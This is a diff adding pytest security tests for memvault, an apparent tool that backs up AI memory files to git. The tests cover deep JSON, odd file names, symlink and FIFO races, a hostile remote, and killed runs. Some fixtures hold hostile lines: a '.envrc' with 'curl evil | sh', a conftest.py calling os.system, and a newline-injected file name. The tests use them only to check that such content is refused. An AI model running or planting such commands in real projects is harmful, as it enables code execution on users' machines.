@@ -2,20 +2,27 @@
 
 Each test reproduces an attack on a real machine layout: real `git clone`, real hooks
 (plain and pre-commit), the cron line run as cron runs it, real second repositories,
-injected URLs, a loopback listener standing for a server that sees credentials.
+injected URLs, a loopback listener standing for a server that sees credentials; and hostile
+input files (deep, non-UTF-8 names, symlinks and FIFOs swapped by a thread), hostile vault
+contents from a remote, and killed runs.
 """
 from __future__ import annotations
 
 import json
 import os
 import shlex
+import signal
 import subprocess
+import sys
+import threading
+import time
 from pathlib import Path
 
 import pytest
 
 from remote_support import LoopbackServer
 from remote_support import bare_remote
+from support import MEMVAULT
 from support import Project
 from support import git
 from support import memvault
@@ -355,3 +362,410 @@ def test_fetch_writes_no_url_into_the_reflog(project: Project, tmp_path: Path) -
     remote.fetch(vault, str(origin), timeout=20)  # as a sync fetches when the remote moved on
     fetched = git(project.vault, "reflog", "show", "--format=%gs", "refs/remotes/origin/other")
     assert fetched.strip() and str(origin) not in fetched, fetched  # credentials would be in that URL
+
+
+
+# --- hostile memory files, vault contents and killed runs (issue 10, points 5-8) ----------
+
+def _files_status(project: Project) -> dict:  # type: ignore[type-arg]
+    proc = project.run("status", "--json")
+    return json.loads(proc.stdout)  # type: ignore[no-any-return]
+
+
+def _files_error_log(project: Project) -> str:
+    found = list(Path(os.environ["XDG_STATE_HOME"]).rglob("*err*"))
+    return "".join(p.read_text(errors="replace") for p in found if p.is_file())
+
+
+# -- point 5: one bad file never stops the others ------------------------------------------
+
+def test_deep_json_of_2kb_is_reported_and_the_others_backed_up(project: Project) -> None:
+    project.write("memory.json", "[" * 990 + "]" * 990)
+    project.write("gpt4o_memories.json", json.dumps({"good": True}))
+    proc = project.sync()
+    assert proc.returncode == 1, proc.stderr
+    assert "RecursionError" not in proc.stderr and "Traceback" not in proc.stderr
+    assert "too deeply nested" in proc.stderr
+    assert json.loads((project.stored / "gpt4o_memories.json").read_text()) == {"good": True}
+    assert not (project.stored / "memory.json").exists()
+    status = _files_status(project)
+    assert status["ok"] is False
+    assert "too deeply nested" in str(status["last_error"]) or any(
+        "too deeply nested" in p for p in status["problems"])
+    assert "too deeply nested" in _files_error_log(project)
+
+
+def test_deep_jsonl_line_is_reported(project: Project) -> None:
+    project.config(f"version: 1\nfiles: [memory.jsonl, memory.json]\nvault:\n  path: {project.vault}\n")
+    project.write("memory.jsonl", '{"a": 1}\n' + "[" * 990 + "]" * 990 + "\n")
+    proc = project.sync()
+    assert proc.returncode == 1
+    assert "too deeply nested" in proc.stderr and "Traceback" not in proc.stderr
+    assert (project.stored / "memory.json").exists()
+
+
+_FILES_LIMITED = """
+import resource, sys
+resource.setrlimit(resource.RLIMIT_AS, (128 << 20, 128 << 20))
+from memvault_hooks import formats
+print(formats.problem(sys.argv[1], sys.argv[2]))
+"""
+
+
+@pytest.mark.parametrize("name", ["deep.json", "deep.jsonl"])
+def test_three_mb_nested_a_million_and_a_half_levels_fits_in_128_mb(tmp_path: Path, name: str) -> None:
+    path = tmp_path / name
+    path.write_bytes(b"[" * 1_500_000 + b"]" * 1_500_000)
+    kind = "json" if name.endswith(".json") else "jsonl"
+    proc = subprocess.run([sys.executable, "-c", _FILES_LIMITED, str(path), kind],
+                          capture_output=True, text=True, timeout=120)
+    assert proc.returncode == 0, proc.stderr[-2000:]
+    assert "too deeply nested" in proc.stdout
+
+
+def test_deep_json_sync_under_128_mb(project: Project, tmp_path: Path) -> None:
+    project.write("memory.json", b"[" * 1_500_000 + b"]" * 1_500_000)
+    project.write("gpt4o_memories.json", json.dumps({"good": 1}))
+    code = ("import resource, runpy, sys\n"
+            "resource.setrlimit(resource.RLIMIT_AS, (128 << 20, 128 << 20))\n"
+            "sys.argv = ['memvault', 'sync']\n"
+            "runpy.run_module('memvault_hooks', run_name='__main__')\n")
+    proc = subprocess.run([sys.executable, "-c", code], cwd=project.root, capture_output=True,
+                          text=True, timeout=120)
+    assert proc.returncode == 1, proc.stderr
+    assert "too deeply nested" in proc.stderr and "MemoryError" not in proc.stderr
+    assert json.loads((project.stored / "gpt4o_memories.json").read_text()) == {"good": 1}
+
+
+def test_non_utf8_file_name_beside_a_good_file(project: Project) -> None:
+    project.config(f"version: 1\nfiles: ['*.json']\nvault:\n  path: {project.vault}\n")
+    bad = os.path.join(os.fsencode(project.root), b"notes-\xe9\xff.json")
+    with open(bad, "wb") as f:
+        f.write(b'{"latin1": true}')
+    project.write("memory.json", json.dumps({"good": 2}))
+    proc = project.sync()
+    assert "Traceback" not in proc.stderr and "UnicodeEncodeError" not in proc.stderr
+    assert proc.returncode == 0, proc.stderr
+    assert json.loads((project.stored / "memory.json").read_text()) == {"good": 2}
+    stored = os.path.join(os.fsencode(project.stored), b"notes-\xe9\xff.json")
+    with open(stored, "rb") as f:
+        assert f.read() == b'{"latin1": true}'
+    body = git(project.vault, "log", "-1", "--format=%B")
+    assert "notes-\\351\\377.json" in body        # git-style C quoting
+    # a second run has nothing to do; log and status still work
+    again = project.sync()
+    assert again.returncode == 0, again.stderr
+    log = project.run("log", "--json")
+    assert log.returncode == 0, log.stderr
+    assert _files_status(project)["ok"] is True
+
+
+def test_file_name_with_newline_is_quoted_in_log_and_commit(project: Project) -> None:
+    project.config(f"version: 1\nfiles: ['*.json']\nvault:\n  path: {project.vault}\n")
+    project.write("evil\nmodified: .bashrc.json", "{}")
+    proc = project.sync()
+    assert proc.returncode == 0, proc.stderr
+    body = git(project.vault, "log", "-1", "--format=%B")
+    assert "\nmodified: .bashrc.json" not in body
+    assert '"evil\\nmodified: .bashrc.json"' in body
+    logs = "".join(p.read_text() for p in Path(os.environ["XDG_STATE_HOME"]).rglob("*.log"))
+    assert "\nmodified: .bashrc.json" not in logs
+    listed = json.loads(project.run("log", "--json").stdout)
+    assert listed[0]["files"][0]["path"] == "evil\nmodified: .bashrc.json"
+
+
+# -- point 6: race-free reads --------------------------------------------------------------
+
+def test_symlink_and_fifo_swapped_while_syncs_run(project: Project, tmp_path: Path) -> None:
+    secret = tmp_path / "outside" / "id_rsa"
+    secret.parent.mkdir()
+    secret.write_text('{"secret": "PRIVATE-KEY-MATERIAL"}')
+    project.write("inside.json", json.dumps({"inside": True}))
+    project.config(f"version: 1\nfiles: [memory.json, gpt4o_memories.json]\nvault:\n  path: {project.vault}\n")
+    target = project.root / "memory.json"
+    stop = threading.Event()
+
+    def swap() -> None:
+        tmp = project.root / "memory.json.swap"
+        while not stop.is_set():
+            for make in (lambda: os.symlink("inside.json", tmp),
+                         lambda: os.symlink(str(secret), tmp),
+                         lambda: os.mkfifo(tmp),
+                         lambda: tmp.write_text('{"plain": 1}')):
+                try:
+                    make()
+                    os.replace(tmp, target)
+                except OSError:
+                    pass
+                time.sleep(0.0001)
+
+    swapper = threading.Thread(target=swap, daemon=True)
+    swapper.start()
+    codes = []
+    try:
+        for i in range(12):
+            project.write("gpt4o_memories.json", json.dumps({"round": i}))
+            proc = subprocess.run([*MEMVAULT, "sync"], cwd=project.root, capture_output=True,
+                                  text=True, timeout=60)            # a hang fails here
+            assert "Traceback" not in proc.stderr, proc.stderr
+            codes.append(proc.returncode)
+    finally:
+        stop.set()
+        swapper.join(5)
+    assert set(codes) <= {0, 1}
+    assert json.loads((project.stored / "gpt4o_memories.json").read_text()) == {"round": 11}
+    for sha in git(project.vault, "rev-list", "--all").split():
+        tree = git(project.vault, "ls-tree", "-r", sha)
+        for line in tree.splitlines():
+            blob = line.split()[2]
+            assert "PRIVATE-KEY-MATERIAL" not in git(project.vault, "cat-file", "-p", blob)
+
+
+def test_fifo_among_memory_files_is_reported_and_never_blocks(project: Project) -> None:
+    (project.root / "memory.json").unlink()
+    os.mkfifo(project.root / "memory.json")
+    proc = subprocess.run([*MEMVAULT, "sync"], cwd=project.root, capture_output=True, text=True, timeout=60)
+    assert proc.returncode == 1, proc.stderr
+    assert "FIFO" in proc.stderr
+    assert (project.stored / "gpt4o_memories.json").exists()
+    assert "FIFO" in _files_error_log(project)
+    for args in (["status", "--json"], ["verify"], ["diff"], ["sync"]):  # none of them blocks on it
+        proc = subprocess.run([*MEMVAULT, *args], cwd=project.root, capture_output=True, text=True, timeout=60)
+        assert "Traceback" not in proc.stderr, (args, proc.stderr)
+    assert "FIFO" in json.loads(subprocess.run([*MEMVAULT, "status", "--json"], cwd=project.root,
+                                               capture_output=True, text=True, timeout=60).stdout)["last_error"]["message"]
+
+
+# -- point 7: writes only where they belong ------------------------------------------------
+
+def test_restore_rev_of_a_hostile_commit_writes_only_memory_files(project: Project) -> None:
+    assert project.sync().returncode == 0
+    hostile = {".envrc": "curl evil | sh\n", "conftest.py": "import os; os.system('evil')\n",
+               ".vscode/tasks.json": '{"tasks": [{"command": "evil"}]}'}
+    for rel, text in hostile.items():
+        path = project.stored / rel
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text)
+    before = (project.root / "memory.json").read_text()
+    git(project.vault, "add", "-A", "rAgentShared")
+    git(project.vault, "commit", "-q", "-m", "memvault: from a remote")
+    rev = git(project.vault, "rev-parse", "HEAD").strip()
+    project.write("memory.json", '{"later": 1}')
+    assert project.sync().returncode == 0
+    proc = project.run("restore", "--rev", rev)
+    assert proc.returncode == 0, proc.stderr
+    for rel in hostile:
+        assert not (project.root / rel).exists(), rel
+        assert rel in proc.stdout and "skipped" in proc.stdout
+    assert (project.root / "memory.json").read_text() == before
+    # naming one explicitly does not write it either
+    named = project.run("restore", "--rev", rev, "conftest.py")
+    assert named.returncode == 1
+    assert not (project.root / "conftest.py").exists()
+
+
+def _files_hostile_push(base: Path, bare: Path, outside: Path) -> None:
+    """An attacker with push access makes `rAgentShared` a symlink to `outside`."""
+    work = base / "attacker"
+    git(base, "clone", "-q", str(bare), str(work))
+    git(work, "rm", "-rq", "--ignore-unmatch", "rAgentShared")
+    os.symlink(str(outside), work / "rAgentShared")
+    git(work, "add", "rAgentShared")
+    git(work, "commit", "-qm", "memvault: 2026-01-01T00:00:00Z manual: 1 modified")
+    git(work, "push", "-q", "origin", "HEAD:main")
+
+
+def _files_no_links(vault: Path) -> None:
+    for dirpath, dirnames, filenames in os.walk(vault):
+        if ".git" in Path(dirpath).parts:
+            continue
+        for name in dirnames + filenames:
+            assert not os.path.islink(os.path.join(dirpath, name)), os.path.join(dirpath, name)
+
+
+def test_remote_whose_subdir_is_a_symlink_never_makes_a_write_outside(tmp_path: Path) -> None:
+    from remote_support import bare_remote
+    from remote_support import machine
+
+    bare = bare_remote(tmp_path)
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    project = machine(tmp_path, "a", bare)
+    assert project.sync().returncode == 0
+    _files_hostile_push(tmp_path, bare, outside)
+    # a fresh machine clones the hostile remote (tip: rAgentShared is a symlink) and syncs
+    fresh = machine(tmp_path, "b", bare)
+    proc = fresh.run("init")
+    assert "Traceback" not in proc.stderr, proc.stderr
+    fresh.write("memory.json", json.dumps({"fresh": True}))
+    proc = fresh.sync()
+    assert "Traceback" not in proc.stderr, proc.stderr
+    assert list(outside.iterdir()) == []
+    _files_no_links(fresh.vault)
+    assert json.loads((fresh.stored / "memory.json").read_text()) == {"fresh": True}
+    # the first machine fetches it: its syncs write only into its vault
+    for i in range(3):
+        project.write("memory.json", json.dumps({"after": "attack", "round": i}))
+        proc = project.sync()
+        assert "Traceback" not in proc.stderr, proc.stderr
+        assert list(outside.iterdir()) == []
+        _files_no_links(project.vault)
+    for vault in (project.vault, fresh.vault):
+        assert git(vault, "config", "core.symlinks").strip() == "false"
+
+
+def test_a_changed_subdir_backs_everything_up_again(project: Project) -> None:
+    assert project.sync().returncode == 0
+    assert (project.stored / "memory.json").exists()
+    project.config(f"version: 1\nvault:\n  path: {project.vault}\n  subdir: elsewhere\n")
+    proc = project.sync()
+    assert proc.returncode == 0, proc.stderr
+    assert "nothing to back up" not in proc.stdout
+    for name in ("memory.json", "gpt4o_memories.json"):
+        assert (project.vault / "elsewhere" / name).read_bytes() == (project.root / name).read_bytes()
+    assert "elsewhere/memory.json" in git(project.vault, "ls-tree", "-r", "--name-only", "HEAD")
+    # the hook's no-change path agrees, and verify checks the files under the new subdir
+    project.config(f"version: 1\nvault:\n  path: {project.vault}\n  subdir: third\n")
+    hook = project.run("hook", "post-commit")
+    assert hook.returncode == 0, hook.stderr
+    from support import wait_idle
+
+    wait_idle(project.vault)
+    verify = project.run("verify", "--json")
+    if (project.vault / "third" / "memory.json").exists():
+        assert verify.returncode == 0, verify.stdout
+    else:
+        assert verify.returncode == 1 and "none of them in the backup" in verify.stdout
+    assert project.sync().returncode == 0
+    assert (project.vault / "third" / "memory.json").exists()
+    assert project.run("verify").returncode == 0
+
+
+def test_verify_on_zero_backed_up_files_is_not_ok(project: Project) -> None:
+    assert project.sync().returncode == 0
+    project.config(f"version: 1\nvault:\n  path: {project.vault}\n  subdir: fresh\n")
+    verify = project.run("verify", "--json")
+    assert verify.returncode == 1, verify.stdout
+    assert "none of them in the backup" in verify.stdout
+
+
+def test_show_verify_diff_restore_of_a_150_mb_file_stay_under_128_mb(project: Project) -> None:
+    big = json.dumps(["y" * 1000 + str(i) for i in range(150_000)]).encode()
+    project.write("memory.json", big)
+    assert project.sync().returncode == 0
+    code = ("import resource, runpy, sys\n"
+            "resource.setrlimit(resource.RLIMIT_AS, (128 << 20, 128 << 20))\n"
+            "sys.argv = ['memvault'] + sys.argv[1:]\n"
+            "runpy.run_module('memvault_hooks', run_name='__main__')\n")
+    out = project.root.parent / "restored"
+    for args in (["show", "memory.json"], ["verify"], ["diff", "--from", "1970-01-02"],
+                 ["restore", "--to", str(out)]):
+        proc = subprocess.run([sys.executable, "-c", code, *args], cwd=project.root,
+                              capture_output=True, timeout=300)
+        assert proc.returncode == 0, (args, proc.stderr[-2000:])
+        if args[0] == "show":
+            assert len(proc.stdout) == len(big)
+        if args[0] == "diff":
+            assert b"too large" in proc.stdout
+    assert (out / "memory.json").read_bytes() == big
+
+
+# -- point 8: a killed run leaves nothing running -------------------------------------------
+
+def _files_slow_git(folder: Path) -> Path:
+    """A `git` first on PATH that, for `add`, holds the vault's index.lock open and works
+    slowly (60 s) before running the real git: a slow git child, as a big `git add` is."""
+    import shutil
+
+    real = shutil.which("git")
+    folder.mkdir()
+    script = folder / "git"
+    script.write_text(
+        "#!/bin/sh\n"
+        'prev=""; vault=""\n'
+        'for a in "$@"; do [ "$prev" = "-C" ] && [ -z "$vault" ] && vault="$a"; prev="$a"\n'
+        '  if [ "$a" = add ] && [ -n "$vault" ]; then\n'
+        '    exec 9>"$vault/.git/index.lock"; sleep 60; exec 9>&-; rm -f "$vault/.git/index.lock"; break\n'
+        "  fi\n"
+        "done\n"
+        f'exec {real} "$@"\n')
+    script.chmod(0o755)
+    return folder
+
+
+def _files_proc_stat(pid: int) -> list[bytes]:
+    try:
+        with open(f"/proc/{pid}/stat", "rb") as f:
+            return f.read().rpartition(b")")[2].split()
+    except OSError:
+        return []
+
+
+def _files_holders(path: Path) -> list[int]:
+    """Live processes with `path` open, from /proc."""
+    found = []
+    for entry in os.listdir("/proc"):
+        if not entry.isdigit():
+            continue
+        try:
+            fds = os.listdir(f"/proc/{entry}/fd")
+        except OSError:
+            continue
+        for fd in fds:
+            try:
+                if os.readlink(f"/proc/{entry}/fd/{fd}") == str(path):
+                    found.append(int(entry))
+                    break
+            except OSError:
+                continue
+    return found
+
+
+def test_kill_9_of_a_sync_leaves_no_git_and_keeps_a_live_gits_lock(project: Project, tmp_path: Path) -> None:
+    assert project.sync().returncode == 0
+    slow = _files_slow_git(tmp_path / "slowbin")
+    env = dict(os.environ, PATH=f"{slow}{os.pathsep}{os.environ['PATH']}")
+    project.write("memory.json", json.dumps({"during": "kill"}))
+    sync = subprocess.Popen([*MEMVAULT, "sync"], cwd=project.root, env=env,
+                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    lock = project.vault / ".git" / "index.lock"
+    deadline = time.monotonic() + 30
+    while not lock.exists() and time.monotonic() < deadline:
+        time.sleep(0.02)
+    assert lock.exists(), "the slow git never started"
+    holders = _files_holders(lock)
+    assert holders
+    sync.send_signal(signal.SIGKILL)
+    sync.wait(10)
+    try:
+        # the next run ends the killed run's git (its children too), then syncs
+        proc = project.sync()
+        assert proc.returncode == 0, proc.stderr
+        time.sleep(0.2)
+        assert [pid for pid in holders if _files_proc_stat(pid)[:1] not in ([], [b"Z"])] == []
+    finally:
+        for pid in holders:  # whatever a failure left running: ended, by its id
+            try:
+                os.kill(pid, signal.SIGKILL)
+            except OSError:
+                pass
+    assert json.loads((project.stored / "memory.json").read_text()) == {"during": "kill"}
+
+    # a git that is not a killed run's (a person's, still working) keeps its lock
+    holder = subprocess.Popen(["sh", "-c", f'exec 9>"{lock}"; exec sleep 30'])
+    try:
+        deadline = time.monotonic() + 10
+        while not _files_holders(lock) and time.monotonic() < deadline:
+            time.sleep(0.02)
+        project.write("memory.json", json.dumps({"while": "held"}))
+        proc = project.sync()
+        assert proc.returncode == 1
+        assert "in use by a running process" in proc.stderr
+        assert lock.exists()
+        assert holder.poll() is None
+    finally:
+        holder.kill()
+        holder.wait()
+    proc = project.sync()  # the lock's owner is gone: a stale lock, removed
+    assert proc.returncode == 0, proc.stderr
+    assert json.loads((project.stored / "memory.json").read_text()) == {"while": "held"}
